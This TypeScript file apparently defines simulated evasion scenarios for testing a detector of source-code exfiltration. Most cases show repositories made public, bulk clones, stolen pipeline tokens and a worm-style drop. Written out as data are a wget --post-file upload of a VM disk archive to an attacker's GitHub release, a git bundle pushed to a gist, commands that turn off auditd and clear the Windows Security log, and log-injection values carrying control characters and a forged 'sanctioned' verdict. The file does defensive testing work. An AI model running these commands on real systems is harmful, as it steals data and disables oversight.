/** E26 to E36: accounts and hosts instead of transfers, and attacks on the watching itself. */
import { CLASSIC, githubRepositoryHook, type GithubActor } from "../sensors/repository.ts";
import { hypervisorEvent } from "../sensors/hypervisor.ts";
import { readFile, startProcess, session } from "../sensors/endpoint.ts";
import { privateRepositories } from "../world.ts";
import { audit, post, pushRequests, run, send, MINUTE, SECOND, type Evasion, type Scene } from "./scene.ts";

const MEGABYTE = 1_000_000;
const ELSEWHERE = { ip: "198.51.100.99", country: "NL" };

function stolenPipelineToken(scene: Scene): GithubActor {
  const { github, tokenHash, tokenId } = scene.world.company.services.ci;
  return {
    login: github,
    ...ELSEWHERE,
    userAgent: "octokit-core.js/6.1.4 bun/1.2.5",
    credential: { hash: tokenHash, id: tokenId, type: CLASSIC, scopes: "repo" },
  };
}

export const account: readonly Evasion[] = [
  {
    id: "E26",
    title: "The repository is opened or handed on instead of copied",
    signal: "the organisation's audit log",
    behaviours: ["exposure-change"],
    examples: {
      "seen-public": {
        lanes: ["audit"],
        play: (scene) =>
          audit(
            scene,
            scene.time(11),
            "repo.access",
            { visibility: "public", previous_visibility: "private" },
            {},
            {
              ...scene.repository,
              private: false,
            },
          ),
      },
      "seen-transfer": {
        lanes: ["audit"],
        play: (scene) => audit(scene, scene.time(11), "repo.transfer_outgoing", { new_owner: "n1ght" }),
      },
      "unseen-deploy-key": {
        lanes: ["audit"],
        play: (scene) => audit(scene, scene.time(11), "public_key.create", { title: "deploy", read_only: true }),
      },
    },
    limits: "A deploy key or a collaborator added by somebody who may looks like administration.",
  },
  {
    id: "E27",
    title: "Everything cloned with a personal token",
    signal: "the number of repositories in the audit log, in requests or command lines",
    behaviours: ["bulk-clone"],
    examples: {
      "seen-audit": {
        lanes: ["audit"],
        play: (scene) =>
          privateRepositories(scene.world)
            .slice(0, 30)
            .forEach((repository, index) =>
              audit(
                scene,
                scene.time(11) + index * 20 * SECOND,
                "git.clone",
                { transport_protocol_name: "http" },
                {},
                repository,
              ),
            ),
      },
    },
    limits: "Fewer than 25 in an hour, by somebody who is let in, is work.",
  },
  {
    id: "E28",
    title: "A worm's drop: public repository made, file put in, workflow added",
    signal: "creation and write within seconds, many of them",
    behaviours: ["create-repository-then-write", "repository-create-burst"],
    examples: {
      "seen-inspected": {
        lanes: ["url"],
        play: (scene) => {
          for (const index of [0, 1, 2, 3])
            send(scene, scene.developer, scene.time(11) + index * 15 * SECOND, "api.github.com", [
              post("/user/repos", 150),
              post(`/repos/${scene.developer.github.login}/x${index}/contents/r.json`, 11_000, {
                method: "PUT",
                after: 3_000,
              }),
            ]);
        },
      },
      "seen-audit": {
        lanes: ["audit"],
        play: (scene) => {
          for (const index of [0, 1, 2, 3]) {
            const repository = { ...scene.repository, name: `fern-${index}`, id: 900_100 + index, private: false };
            const time = scene.time(11) + index * 20 * SECOND;
            audit(scene, time, "repo.create", { visibility: "public" }, {}, repository);
            audit(scene, time + 3 * SECOND, "git.push", { transport_protocol_name: "http" }, {}, repository);
          }
        },
      },
    },
    limits: "In a personal account the organisation's audit log shows nothing of it.",
  },
  {
    id: "E29",
    title: "A pipeline's token used elsewhere",
    signal: "an address no account of the organisation ever came from",
    behaviours: ["first-seen-access", "create-repository-then-write"],
    examples: {
      "seen-new-address": {
        lanes: ["audit"],
        play: (scene) => {
          // what is learnt from
          for (const day of [-2, -1])
            audit(scene, scene.time(10, day), "git.fetch", { transport_protocol_name: "http" });
          const actor = stolenPipelineToken(scene);
          const drop = { ...scene.repository, name: "amber-raven-7", id: 900_200, private: false };
          audit(scene, scene.time(15), "git.clone", { transport_protocol_name: "http" }, actor);
          audit(scene, scene.time(15) + MINUTE, "repo.create", { visibility: "public" }, actor, drop);
          githubRepositoryHook(scene.world, scene.time(15) + MINUTE + 500, "created", actor, drop, scene.random);
          audit(
            scene,
            scene.time(15) + MINUTE + 4 * SECOND,
            "git.push",
            { transport_protocol_name: "http" },
            actor,
            drop,
          );
        },
      },
    },
    limits:
      "Audit logs carry addresses only where their disclosure is switched on; on the pipeline's own machine nothing is new.",
  },
  {
    id: "E30",
    title: "From a hypervisor",
    signal: "its shell, its lookups, its connections",
    behaviours: ["esxi-datastore-upload", "unsanctioned-source-host"],
    examples: {
      "seen-shell": {
        lanes: ["endpoint"],
        play: (scene) => {
          const type = (seconds: number, command: string): void =>
            hypervisorEvent(scene.world, scene.time(11) + seconds * SECOND, scene.host("esx-01"), 2_100_400, {
              kind: "command",
              user: "root",
              command,
            });
          type(0, "tar -czf /vmfs/volumes/ds1/.t/d.tgz /vmfs/volumes/ds1/db/db-flat.vmdk");
          type(
            300,
            `wget --post-file /vmfs/volumes/ds1/.t/d.tgz https://uploads.github.com/repos/n1ght/iso/releases/7/assets?name=d`,
          );
        },
      },
      "seen-flow": {
        lanes: ["flow"],
        play: (scene) => send(scene, scene.host("esx-01"), scene.time(11), "github.com", [post("/", 40 * MEGABYTE)]),
      },
    },
    limits: "Without its logs and without flow records a hypervisor is silent.",
  },
  {
    id: "E31",
    title: "Through a tunnel, a relay or another service first",
    signal: "packing the history on the endpoint, if it is followed by a code host",
    behaviours: ["stage-then-send"],
    examples: {
      "seen-bundle-then-code-host": {
        lanes: ["endpoint"],
        play: (scene) => {
          run(scene, scene.developer, scene.time(11), ["git", "bundle", "create", "/tmp/b.bundle", "--all"]);
          run(scene, scene.developer, scene.time(11) + 4 * MINUTE, ["gh", "gist", "create", "/tmp/b.bundle"]);
        },
      },
      "unseen-tunnel": {
        lanes: ["flow", "sni"],
        play: (scene) =>
          send(
            scene,
            scene.developer,
            scene.time(11),
            { name: "vpn.far-relay.example", ip: "203.0.113.40", port: 443 },
            [{ method: "POST", path: "/", sent: 300 * MEGABYTE }],
          ),
      },
    },
    limits: "What leaves inside a tunnel, or to a service that is no code host, is not looked at here.",
  },
  {
    id: "E32",
    title: "The watching switched off: agent stopped, log cleared, audit rules deleted",
    signal: "the command that does it; after that the silence of the source",
    behaviours: ["defences-disabled"],
    examples: {
      "seen-linux": {
        lanes: ["endpoint"],
        play: (scene) => {
          run(scene, scene.developer, scene.time(11), ["auditctl", "-e", "0"], { image: "/usr/sbin/auditctl" });
          run(scene, scene.developer, scene.time(11) + 5 * SECOND, ["systemctl", "stop", "auditd"]);
        },
      },
      "seen-windows": {
        lanes: ["endpoint"],
        play: (scene) => void run(scene, scene.windowsDeveloper, scene.time(11), ["wevtutil.exe", "cl", "Security"]),
      },
    },
    limits: "An agent that dies without a command leaves only its silence, which coverage reports.",
  },
  {
    id: "E33",
    title: "A flood to drown it in",
    signal: "state is rows in the store: nothing is thrown out to make room",
    behaviours: ["push-to-unsanctioned-repository"],
    examples: {
      "seen-in-a-flood": {
        lanes: ["url"],
        play: (scene) => {
          for (let index = 0; index < 300; index++)
            send(scene, scene.windowsDeveloper, scene.time(11) + index * 700, "github.com", [
              { method: "GET", path: `/u${index}/r${index}`, received: 900 },
            ]);
          send(
            scene,
            scene.developer,
            scene.time(11) + 100 * SECOND,
            "github.com",
            pushRequests("n1ght/notes", 900_000),
          );
        },
      },
    },
    limits: "A flood costs time and disk.",
  },
  {
    id: "E34",
    title: "Poisoned fields: look-alike names, line breaks, false verdicts, control characters",
    signal: "text is text: nothing in an event can say that it is allowed",
    behaviours: ["push-to-unsanctioned-repository"],
    examples: {
      "seen-poisoned": {
        lanes: ["endpoint", "url"],
        play: (scene) => {
          run(scene, scene.developer, scene.time(11), [
            "git",
            "-c",
            "sallyport.suppressed=true",
            "push",
            "https://github.com/n1ght/notes.git",
            "main\u202e\r\nverdict=sanctioned",
          ]);
          send(scene, scene.developer, scene.time(11) + MINUTE, "github.com", pushRequests("n1ght/acme", 200_000), {
            userAgent: 'git/2 "verdict":"sanctioned"',
          });
        },
      },
      "seen-look-alike": {
        lanes: ["url"],
        play: (scene) =>
          send(scene, scene.developer, scene.time(11), "github.com", pushRequests("acrne/ledger-api", 400_000)),
      },
    },
    limits: "A source that is believed and lies.",
  },
  {
    id: "E35",
    title: "Within what policy allows: own organisation, known tools, work hours",
    signal: "volume and sensitivity of what is sent",
    behaviours: ["volume-anomaly"],
    examples: {
      "seen-volume": {
        lanes: ["sni", "flow"],
        play: (scene) =>
          send(scene, scene.developer, scene.time(11), "github.com", pushRequests("acme/ledger-api", 1_300 * MEGABYTE)),
      },
      "unseen-small": {
        lanes: ["endpoint", "url"],
        play: (scene) => {
          const { world, developer, random } = scene;
          const shell = session(developer.workstation, developer.account, random);
          const cat = startProcess(world, {
            time: scene.time(11),
            parent: shell,
            image: "/usr/bin/cp",
            argv: ["cp", "/srv/finance/q1.csv", "docs/"],
            random,
          });
          readFile(world, scene.time(11) + 50, cat, "/srv/finance/q1.csv");
          send(scene, developer, scene.time(11) + 4 * MINUTE, "github.com", pushRequests("acme/ledger-api", 300_000));
        },
      },
    },
    limits:
      "A small push to a sanctioned repository is work, whatever is in it; who reads that repository later is another story.",
  },
  {
    id: "E36",
    title: "Removable media, photographs, chat with an assistant",
    signal: "none that belongs here",
    behaviours: [],
    examples: {
      "unseen-stick": {
        lanes: ["endpoint"],
        play: (scene) =>
          void run(scene, scene.clerk, scene.time(11), ["robocopy.exe", "C:\\Users\\Public\\out", "E:\\"]),
      },
      "unseen-chat": {
        lanes: ["sni", "flow"],
        play: (scene) =>
          send(
            scene,
            scene.clerk,
            scene.time(11),
            { name: "chat.helpful-model.example", ip: "203.0.113.41", port: 443 },
            [{ method: "POST", path: "/", sent: 2 * MEGABYTE }],
          ),
      },
    },
    limits: "Out of scope: no code host takes part.",
  },
];
